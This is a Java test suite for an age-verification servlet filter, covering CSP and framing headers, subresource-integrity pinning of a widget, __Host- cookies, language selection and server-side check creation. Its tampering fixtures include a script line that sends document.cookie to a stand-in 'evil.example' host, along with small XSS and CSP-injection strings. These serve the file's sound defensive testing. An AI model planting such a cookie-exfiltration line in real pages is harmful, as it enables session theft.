package dev.agegate.filter;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.matchingJsonPath;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.Mockito.never;
import static org.mockito.Mockito.verify;

import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import dev.agegate.filter.support.TestGateway;
import dev.agegate.testsupport.MutableClock;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The gate page's protections (issue 10) and language (issue 14): CSP and framing headers,
 * the widget pinned by SRI by default and refused when it no longer matches, {@code __Host-}
 * cookie names, {@code Accept-Language}, and the check created server-side with the site secret.
 */
class GatePageTest {

  private static final Instant START = Instant.parse("2026-11-28T12:00:00Z");
  private static final String NONCE = "n".repeat(43);
  private static final String SECRET = "s3cr3t-of-the-demo-shop-backend-0123456789";
  private static final String CHECK = """
      {"transaction_id":"tx_1","expires_at":"2026-11-28T12:05:00Z","request_uri":"http://gw/v1/requests/r1",\
      "wallet_link":"openid4vp://?request_uri=x","web_wallet_link":"http://gw/wallet/#r1",\
      "qr_svg":"<svg xmlns=\\"http://www.w3.org/2000/svg\\"><path d=\\"M0 0h1v1H0z\\"/></svg>","n":5,"x":"\\"><script>",\
      "expires_in":300,"qr_modules":["010","101","010"],"y":["<script>"]}""";

  private static MutableClock clock;
  private static TestGateway gateway;
  private final List<AgeGateFilter> filters = new CopyOnWriteArrayList<>();

  @BeforeAll
  static void startGateway() {
    clock = new MutableClock(START);
    gateway = new TestGateway(clock);
  }

  @AfterAll
  static void stopGateway() {
    gateway.close();
  }

  @BeforeEach
  void setUp() {
    clock.set(START);
    gateway.server().resetAll();
    gateway.publish(gateway.key());
    gateway.publishWidget(TestGateway.WIDGET_SCRIPT);
  }

  @AfterEach
  void tearDown() {
    filters.forEach(AgeGateFilter::destroy);
  }

  private static AgeGateFilter.Builder builder() {
    return AgeGateFilter.builder()
        .gatewayUrl(gateway.url())
        .siteId(TestGateway.SITE)
        .rule("/adult/*", 18)
        .jwksTimeout(Duration.ofSeconds(20)) // WireMock answers at once; a loaded machine may still be slow
        .clock(clock);
  }

  private AgeGateFilter start(AgeGateFilter.Builder b) throws Exception {
    AgeGateFilter f = b.build();
    f.init(null);
    filters.add(f);
    return f;
  }

  // --- CSP and framing ---

  @Test
  void gatePage_cspAllowsOnlyThePinnedWidgetAndTheGatewayAndForbidsFraming() throws Exception {
    Exchange e = Exchange.browser("/adult/films").run(start(builder()));

    assertThat(e.status()).isEqualTo(401);
    assertThat(e.header("Content-Security-Policy")).isEqualTo("default-src 'none'; script-src " + gateway.url()
        + TestGateway.WIDGET_PATH + "; connect-src " + gateway.url() + "; img-src " + gateway.url()
        + " data:; form-action 'self'; frame-ancestors 'none'; base-uri 'none'; object-src 'none'");
    assertThat(e.header("X-Frame-Options")).isEqualTo("DENY");
    assertThat(e.body()).contains("integrity=\"" + TestGateway.sri(TestGateway.WIDGET_SCRIPT) + "\"");
  }

  @Test
  void gatePage_frameAncestorsConfigured_cspSaysThemAndXFrameOptionsFollows() throws Exception {
    Exchange self = Exchange.browser("/adult/films").run(start(builder().frameAncestors("'self'")));
    assertThat(self.header("Content-Security-Policy")).contains("; frame-ancestors 'self'; ");
    assertThat(self.header("X-Frame-Options")).isEqualTo("SAMEORIGIN");

    Exchange partner = Exchange.browser("/adult/films")
        .run(start(builder().frameAncestors("'self' https://partner.example")));
    assertThat(partner.header("Content-Security-Policy")).contains("; frame-ancestors 'self' https://partner.example; ");
    assertThat(partner.header("X-Frame-Options")).isNull();

    assertThatThrownBy(() -> builder().frameAncestors("*").build()).isInstanceOf(AgeGateConfigException.class)
        .hasMessageStartingWith("agegate: frame-ancestors: ");
    assertThatThrownBy(() -> builder().frameAncestors("'none'; script-src *").build()).isInstanceOf(AgeGateConfigException.class);
  }

  @Test
  void problemPage_cspWithNothingAllowedAndViewport() throws Exception {
    Exchange e = Exchange.get("/agegate/callback").accept("text/html").run(start(builder()));

    assertThat(e.status()).isEqualTo(405);
    assertThat(e.header("Content-Security-Policy")).isEqualTo("default-src 'none'; img-src data:; form-action 'none'; frame-ancestors 'none'; base-uri 'none'");
    assertThat(e.header("X-Frame-Options")).isEqualTo("DENY");
    assertThat(e.body()).contains("<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">");
  }

  // --- SRI by default ---

  @Test
  void gatePage_scriptTamperedBeforeStart_503AndNoPage() throws Exception {
    // The gateway (or whoever controls its origin) serves another script under the published SRI value.
    gateway.serveWidget("alert(document.cookie)".getBytes(StandardCharsets.UTF_8), TestGateway.sri(TestGateway.WIDGET_SCRIPT));
    AgeGateFilter f = start(builder());

    Exchange e = Exchange.browser("/adult/films").run(f);

    verify(e.chain, never()).doFilter(any(), any());
    assertThat(e.status()).isEqualTo(503);
    assertThat(e.body()).contains("not the version this site trusts").doesNotContain("<age-gate").doesNotContain("<script");
    assertThat(e.header("Retry-After")).isEqualTo("300");
  }

  @Test
  void gatePage_scriptTamperedAfterPinning_refusedAtTheNextCheckAndServedAgainOnceRestored() throws Exception {
    AgeGateFilter f = start(builder().jwksRefresh(Duration.ofMinutes(5)));
    assertThat(Exchange.browser("/adult/films").run(f).status()).isEqualTo(401);

    // a new .sri too: the filter keeps the value it pinned at start-up (trust on first use)
    byte[] evil = "fetch('https://evil.example/?'+document.cookie)".getBytes(StandardCharsets.UTF_8);
    gateway.publishWidget(evil);
    assertThat(Exchange.browser("/adult/films").run(f).status()).as("not due for a re-check yet").isEqualTo(401);
    clock.advance(Duration.ofMinutes(5));
    assertThat(afterBackgroundCheck(f).body()).contains("not the version this site trusts");

    gateway.publishWidget(TestGateway.WIDGET_SCRIPT);
    clock.advance(Duration.ofMinutes(5));
    assertThat(afterBackgroundCheck(f).body()).contains("<age-gate ")
        .contains("integrity=\"" + TestGateway.sri(TestGateway.WIDGET_SCRIPT) + "\"");
  }

  /**
   * A request that finds the pin due starts a re-check in the background and is answered from
   * the last verdict; this waits for that check (the event, bounded) and asks again.
   */
  private static Exchange afterBackgroundCheck(AgeGateFilter f) throws Exception {
    WidgetPin pin = f.gatekeeper().widgetPin();
    long done = pin.checksDone();
    Exchange.browser("/adult/films").run(f);
    pin.awaitChecks(done + 1, Duration.ofSeconds(30));
    return Exchange.browser("/adult/films").run(f);
  }

  @Test
  void gatePage_gatewayDownAtStartWithoutConfiguredIntegrity_503AndOneFetchPerInterval() throws Exception {
    for (String path : List.of(TestGateway.WIDGET_PATH, TestGateway.WIDGET_PATH + ".sri")) {
      gateway.server().stubFor(com.github.tomakehurst.wiremock.client.WireMock.get(urlEqualTo(path))
          .willReturn(aResponse().withStatus(503)));
    }
    AgeGateFilter f = start(builder().jwksMinRefetch(Duration.ofSeconds(30)));

    Exchange e = Exchange.browser("/adult/films").run(f);
    assertThat(e.status()).isEqualTo(503);
    assertThat(e.header("Retry-After")).isEqualTo("30");
    int fetches = sriFetches();
    assertThat(fetches).isBetween(1, 2); // start-up's, and at most one by the first request
    for (int i = 0; i < 20; i++) {
      assertThat(Exchange.browser("/adult/films").run(f).status()).isEqualTo(503);
    }
    assertThat(sriFetches()).isEqualTo(fetches);

    gateway.publishWidget(TestGateway.WIDGET_SCRIPT);
    clock.advance(Duration.ofSeconds(30));
    assertThat(Exchange.browser("/adult/films").run(f).status()).isEqualTo(401);
  }

  private static int sriFetches() {
    return gateway.server().findAll(com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor(
        urlEqualTo(TestGateway.WIDGET_PATH + ".sri"))).size();
  }

  @Test
  void gatePage_releasedWidgetVersion_loadedPinnedAndInTheCspWhileV1Changes() throws Exception {
    byte[] released = "/* 1.1.0 */".getBytes(StandardCharsets.UTF_8);
    gateway.serveWidget("/widget/1.1.0/age-gate.js", released, TestGateway.sri(released));
    byte[] newer = "/* a newer v1 */".getBytes(StandardCharsets.UTF_8);
    gateway.serveWidget("/widget/v1/age-gate.js", newer, TestGateway.sri(newer));

    Exchange e = Exchange.browser("/adult/films").run(start(builder().widgetVersion("1.1.0")));

    assertThat(e.status()).isEqualTo(401);
    assertThat(e.body()).contains("<script src=\"" + gateway.url() + "/widget/1.1.0/age-gate.js\" integrity=\""
        + TestGateway.sri(released) + "\"");
    assertThat(e.header("Content-Security-Policy")).contains("script-src " + gateway.url() + "/widget/1.1.0/age-gate.js;");
    assertThatThrownBy(() -> builder().widgetVersion("../x").build()).isInstanceOf(AgeGateConfigException.class)
        .hasMessageStartingWith("agegate: widget-version: ");
  }

  @Test
  void gatewayClient_answerOverTheLimit_ioExceptionNotTheBody() throws Exception {
    byte[] huge = new byte[WidgetPin.MAX_SCRIPT_BYTES + 1];
    java.util.Arrays.fill(huge, (byte) ' ');
    gateway.serveWidget(huge, TestGateway.sri(huge));
    GatewayClient client = new GatewayClient(Duration.ofSeconds(20));
    java.net.URI script = java.net.URI.create(gateway.url() + TestGateway.WIDGET_PATH);

    assertThatThrownBy(() -> client.get(script, WidgetPin.MAX_SCRIPT_BYTES)).isInstanceOf(java.io.IOException.class)
        .hasMessageContaining("larger than " + WidgetPin.MAX_SCRIPT_BYTES + " bytes");
    assertThat(client.get(script, WidgetPin.MAX_SCRIPT_BYTES + 1).body()).hasSize(huge.length);
  }

  @Test
  void sriMatching_onlyTheStrongestAlgorithmCounts() throws Exception {
    byte[] script = TestGateway.WIDGET_SCRIPT;
    String sha256 = "sha256-" + Base64.getEncoder().encodeToString(MessageDigest.getInstance("SHA-256").digest(script));
    String wrong512 = "sha512-" + Base64.getEncoder().encodeToString(new byte[64]);
    assertThat(WidgetPin.matches(TestGateway.sri(script), script)).isTrue();
    assertThat(WidgetPin.matches(sha256, script)).isTrue();
    assertThat(WidgetPin.matches(sha256 + " " + wrong512, script)).isFalse();
    assertThat(WidgetPin.matches("sha384-" + "A".repeat(64) + " " + TestGateway.sri(script), script)).isTrue();
    assertThat(WidgetPin.matches(TestGateway.sri(script), "x".getBytes(StandardCharsets.UTF_8))).isFalse();
  }

  // --- __Host- cookie names ---

  @Test
  void cookies_secureByDefault_hostPrefixedNames() throws Exception {
    AgeGateFilter f = start(builder());
    Exchange gate = Exchange.browser("/adult/films").run(f);
    assertThat(gate.setCookie("__Host-agegate_nonce"))
        .matches("__Host-agegate_nonce=[A-Za-z0-9_-]{43}; Path=/; Max-Age=43200; HttpOnly; Secure; SameSite=Lax");
    String nonce = gate.cookieValue("__Host-agegate_nonce");

    String token = gateway.token(18, Gatekeeper.binding(nonce));
    Exchange back = Exchange.post("/agegate/callback", token, "/adult/films").cookie("__Host-agegate_nonce", nonce).run(f);
    assertThat(back.status()).isEqualTo(303);
    assertThat(back.setCookie("__Host-agegate")).isEqualTo("__Host-agegate=" + token + "; Path=/; Max-Age=300; HttpOnly; Secure; SameSite=Lax");
    assertThat(back.setCookie("agegate")).isNull();

    Exchange page = Exchange.browser("/adult/films").cookie("__Host-agegate_nonce", nonce).cookie("__Host-agegate", token).run(f);
    verify(page.chain).doFilter(page.req, page.resp);
  }

  @Test
  void cookies_oldDefaultNamesStillReadAndMovedToHostNames() throws Exception {
    AgeGateFilter f = start(builder());
    String token = gateway.token(18, Gatekeeper.binding(NONCE));
    Exchange page = Exchange.browser("/adult/films").cookie("agegate_nonce", NONCE).cookie("agegate", token).run(f);
    verify(page.chain).doFilter(page.req, page.resp);

    Exchange gate = Exchange.browser("/adult/other").cookie("agegate_nonce", NONCE).run(f);
    assertThat(gate.cookieValue("__Host-agegate_nonce")).as("the old nonce moves to the new name").isEqualTo(NONCE);

    Exchange back = Exchange.post("/agegate/callback", token, "/adult/").cookie("agegate_nonce", NONCE).cookie("agegate", "old").run(f);
    assertThat(back.status()).isEqualTo(303);
    assertThat(back.cookieValue("__Host-agegate")).isEqualTo(token);
    assertThat(back.setCookie("agegate")).isEqualTo("agegate=; Path=/; Max-Age=0; HttpOnly; Secure; SameSite=Lax");
    assertThat(back.setCookie("agegate_nonce")).startsWith("agegate_nonce=; Path=/; Max-Age=0;");
  }

  @Test
  void cookies_plainHttpDemo_unprefixedNamesAndAnExplicitNameIsKept() throws Exception {
    Exchange plain = Exchange.browser("/adult/films").run(start(builder().cookieSecure(false)));
    assertThat(plain.setCookie("agegate_nonce")).doesNotContain("Secure");
    Exchange named = Exchange.browser("/adult/films").run(start(builder().cookieName("shop_age")));
    assertThat(named.setCookie("shop_age_nonce")).isNotNull();
    String token = gateway.token(18, Gatekeeper.binding(NONCE));
    Exchange noLegacy = Exchange.browser("/adult/films").cookie("agegate_nonce", NONCE).cookie("agegate", token)
        .run(start(builder().cookieName("shop_age")));
    verify(noLegacy.chain, never()).doFilter(any(), any());
  }

  // --- language ---

  @Test
  void gatePage_acceptLanguageFrench_frenchPageWidgetAndFallback() throws Exception {
    Exchange e = Exchange.browser("/adult/films").header("Accept-Language", "fr-CH, fr;q=0.9, en;q=0.8").run(start(builder()));

    assertThat(e.body()).contains("<html lang=\"fr\">").contains("<age-gate lang=\"fr\" ")
        .contains("<title>Vérification de l’âge</title>")
        .containsPattern("<age-gate [^>]*><p data-part=\"fallback\">La vérification de l’âge ne s’est pas chargée\\.[^<]*127\\.0\\.0\\.1[^<]*</p></age-gate>");
    assertThat(e.header("Content-Language")).isEqualTo("fr");
  }

  @Test
  void gatePage_noAcceptLanguage_englishWithFallbackInsideTheElement() throws Exception {
    Exchange e = Exchange.browser("/adult/films").run(start(builder()));

    assertThat(e.body()).contains("<html lang=\"en\">").contains("<age-gate lang=\"en\" ")
        .containsPattern("<age-gate [^>]*><p data-part=\"fallback\">The age check has not loaded\\. Please reload this page\\.[^<]*</p></age-gate>");
  }

  @Test
  void problemPages_inTheVisitorsLanguageWithPlainWords() throws Exception {
    gateway.serveWidget("alert(1)".getBytes(StandardCharsets.UTF_8), TestGateway.sri(TestGateway.WIDGET_SCRIPT));
    AgeGateFilter f = start(builder());
    Exchange refused = Exchange.browser("/adult/films").header("Accept-Language", "de-DE,de;q=0.9").run(f);
    assertThat(refused.status()).isEqualTo(503);
    assertThat(refused.body()).contains("<html lang=\"de\">").contains("<h1>Altersprüfung nicht verfügbar</h1>")
        .contains("nicht die Version, der diese Seite vertraut").contains(">Erneut versuchen</a>");
    assertThat(refused.header("Content-Language")).isEqualTo("de");

    gateway.publishWidget(TestGateway.WIDGET_SCRIPT);
    AgeGateFilter ok = start(builder());
    String other = gateway.token(18, Gatekeeper.binding("x".repeat(43)));
    Exchange token = Exchange.post("/agegate/callback", other, "/adult/").cookie("__Host-agegate_nonce", NONCE)
        .header("Accept-Language", "es").run(ok);
    assertThat(token.status()).isEqualTo(401);
    assertThat(token.body()).contains("<html lang=\"es\">").contains("<h1>Verificación de edad no aceptada</h1>")
        .contains("La verificación se terminó en otro navegador o pestaña").contains("Vuelva a empezar")
        .doesNotContain("binding").contains("<meta name=\"viewport\"");
  }

  @Test
  void lang_bestSupportedMatchByWeight() {
    assertThat(Lang.pick("de;q=0.5, es;q=0.7")).isEqualTo("es");
    assertThat(Lang.pick("ja, de-AT;q=0.1")).isEqualTo("de");
    assertThat(Lang.pick("ja")).isEqualTo("en");
    assertThat(Lang.pick("fr;q=0")).isEqualTo("en");
    assertThat(Lang.pick("fr;q=abc, es;q=0.2")).isEqualTo("es");
    assertThat(Lang.pick("*")).isEqualTo("en");
    assertThat(Lang.pick("ES")).isEqualTo("es");
    assertThat(Lang.pick(null)).isEqualTo("en");
    assertThat(Lang.pick("de, fr")).isEqualTo("de");
  }

  // --- the check created server-side with the site secret ---

  private static void answerChecks(int status, String body) {
    gateway.server().stubFor(post(urlEqualTo("/v1/checks"))
        .withHeader("Authorization", equalTo("Bearer " + SECRET))
        .willReturn(aResponse().withStatus(status).withHeader("Content-Type", "application/json").withBody(body)));
  }

  @Test
  void gatePage_siteSecret_checkCreatedServerSideAndHandedToTheWidget() throws Exception {
    answerChecks(201, CHECK);
    AgeGateFilter f = start(builder().siteSecret(SECRET));

    Exchange e = Exchange.browser("/adult/films").cookie("__Host-agegate_nonce", NONCE).run(f);

    assertThat(e.status()).isEqualTo(401);
    List<LoggedRequest> posts = gateway.server().findAll(postRequestedFor(urlEqualTo("/v1/checks"))
        .withHeader("Authorization", equalTo("Bearer " + SECRET))
        .withRequestBody(matchingJsonPath("$.site", equalTo("demo-shop")))
        .withRequestBody(matchingJsonPath("$.min_age", equalTo("18")))
        .withRequestBody(matchingJsonPath("$.code_challenge_method", equalTo("S256")))
        .withRequestBody(matchingJsonPath("$.binding", equalTo(Gatekeeper.binding(NONCE)))));
    assertThat(posts).hasSize(1);
    assertThat(posts.get(0).getHeader("Origin")).isNull();
    String verifier = e.gateAttribute("code-verifier");
    assertThat(verifier).matches("[A-Za-z0-9_-]{43}");
    String challenge = Base64.getUrlEncoder().withoutPadding().encodeToString(
        MessageDigest.getInstance("SHA-256").digest(verifier.getBytes(StandardCharsets.US_ASCII)));
    assertThat(posts.get(0).getBodyAsString()).contains("\"code_challenge\":\"" + challenge + "\"");
    String check = e.gateAttribute("check");
    assertThat(check).startsWith("{").contains("&quot;transaction_id&quot;:&quot;tx_1&quot;")
        .contains("&quot;qr_svg&quot;:&quot;\\u003csvg").doesNotContain("&quot;n&quot;") // strings only, re-encoded
        .contains("\\&quot;&gt;\\u003cscript&gt;").doesNotContain("<")
        // the widget's QR grid and the gateway's seconds left pass (grids of 0/1 only, a number)
        .contains("&quot;expires_in&quot;:300").contains("&quot;qr_modules&quot;:[&quot;010&quot;,&quot;101&quot;,&quot;010&quot;]")
        .doesNotContain("&quot;y&quot;");
    assertThat(e.body()).doesNotContain(SECRET);
  }

  /**
   * A HEAD for a gated page (a link checker, a prefetcher, a monitor) gets the gate page's
   * status and headers but creates no check at the gateway: the site secret is spent only on a
   * page someone will see (issue 14).
   */
  @Test
  void gatePage_siteSecret_headCreatesNoCheck() throws Exception {
    answerChecks(201, CHECK);
    AgeGateFilter f = start(builder().siteSecret(SECRET));
    Exchange head = Exchange.head("/adult/films").cookie("__Host-agegate_nonce", NONCE).run(f);
    assertThat(head.status()).isEqualTo(401);
    assertThat(head.header("Content-Security-Policy")).isEqualTo(f.gatekeeper().gateCsp());
    assertThat(head.header("Cache-Control")).isEqualTo("no-store");
    assertThat(gateway.server().findAll(postRequestedFor(urlEqualTo("/v1/checks")))).as("checks created for a HEAD").isEmpty();
    verify(head.chain, never()).doFilter(any(), any());
  }

  /**
   * The page that carries a pre-created check's PKCE verifier is never stored by a cache (a
   * shared cache would hand one visitor's verifier to the next), and every view gets its own
   * check and verifier (review3, issue 10).
   */
  @Test
  void gatePage_siteSecret_noStoreAndAFreshCheckAndVerifierPerView() throws Exception {
    answerChecks(201, CHECK);
    AgeGateFilter f = start(builder().siteSecret(SECRET));
    Exchange first = Exchange.browser("/adult/films").cookie("__Host-agegate_nonce", NONCE).run(f);
    Exchange second = Exchange.browser("/adult/films").cookie("__Host-agegate_nonce", NONCE).run(f);
    for (Exchange e : List.of(first, second)) {
      assertThat(e.header("Cache-Control")).isEqualTo("no-store");
      assertThat(e.header("Referrer-Policy")).isEqualTo("same-origin");
      assertThat(e.header("Content-Security-Policy")).contains("frame-ancestors 'none'");
    }
    assertThat(first.gateAttribute("code-verifier")).isNotEqualTo(second.gateAttribute("code-verifier"));
    assertThat(gateway.server().findAll(postRequestedFor(urlEqualTo("/v1/checks")))).hasSize(2);
  }

  @Test
  void gatePage_siteSecretRefusedOrGatewayDown_503AndSecretNeverLogged() throws Exception {
    List<String> logged = new CopyOnWriteArrayList<>();
    Handler handler = new Handler() {
      @Override
      public void publish(LogRecord r) {
        logged.add(new java.util.logging.SimpleFormatter().format(r));
      }

      @Override
      public void flush() {
      }

      @Override
      public void close() {
      }
    };
    Logger root = Logger.getLogger("dev.agegate.filter");
    root.addHandler(handler);
    try {
      // the gateway answers 401 to every other secret: stub with the wrong one expected
      gateway.server().stubFor(post(urlEqualTo("/v1/checks")).willReturn(aResponse().withStatus(401)
          .withHeader("Content-Type", "application/problem+json").withBody("{\"reason\":\"site_unauthenticated\",\"status\":401}")));
      AgeGateFilter f = start(builder().siteSecret(SECRET));
      Exchange refused = Exchange.browser("/adult/films").run(f);
      verify(refused.chain, never()).doFilter(any(), any());
      assertThat(refused.status()).isEqualTo(503);
      assertThat(refused.body()).contains("cannot be started right now").doesNotContain("<age-gate");
      assertThat(logged).anyMatch(m -> m.contains("site_unauthenticated") && m.contains("secret-sha256"));

      gateway.server().stubFor(post(urlEqualTo("/v1/checks")).willReturn(aResponse().withStatus(201).withBody("{\"no\":\"tx\"}")));
      assertThat(Exchange.browser("/adult/films").run(f).status()).isEqualTo(503);
    } finally {
      root.removeHandler(handler);
    }
    assertThat(logged).noneMatch(m -> m.contains(SECRET));
  }

  @Test
  void siteSecret_badValuesRefusedWithoutEchoingThem() {
    assertThatThrownBy(() -> builder().siteSecret("short-secret").build()).isInstanceOf(AgeGateConfigException.class)
        .hasMessageStartingWith("agegate: site-secret: ").hasMessageNotContaining("short-secret");
    assertThatThrownBy(() -> builder().siteSecret(SECRET + " with space").build()).isInstanceOf(AgeGateConfigException.class)
        .hasMessageNotContaining(SECRET);
    assertThatThrownBy(() -> builder().siteSecret(SECRET).gateRedirect("/age-check").build())
        .isInstanceOf(AgeGateConfigException.class).hasMessageStartingWith("agegate: site-secret: ");
  }

  @Test
  void defaultWidgetVersion_isTheCurrentRelease_soAGatewayUpgradeNeverBreaksThePin() throws Exception {
    // The default must be an immutable release, not v1: the pin taken at start-up would refuse
    // the gate after any gateway upgrade that changes the newest widget.
    java.nio.file.Path releases = java.nio.file.Path.of("..", "widget", "releases", "releases.txt");
    String last = java.nio.file.Files.readAllLines(releases).stream()
        .filter(l -> !l.isBlank() && !l.startsWith("#")).reduce((a, b) -> b).orElseThrow();
    assertThat(AgeGateFilter.WIDGET_RELEASE).as("the last line of %s", releases).isEqualTo(last.split(" ")[0]);
    Exchange e = Exchange.browser("/adult/films").run(start(builder()));
    assertThat(e.body()).contains("/widget/" + AgeGateFilter.WIDGET_RELEASE + "/age-gate.js\" integrity=");
  }
}
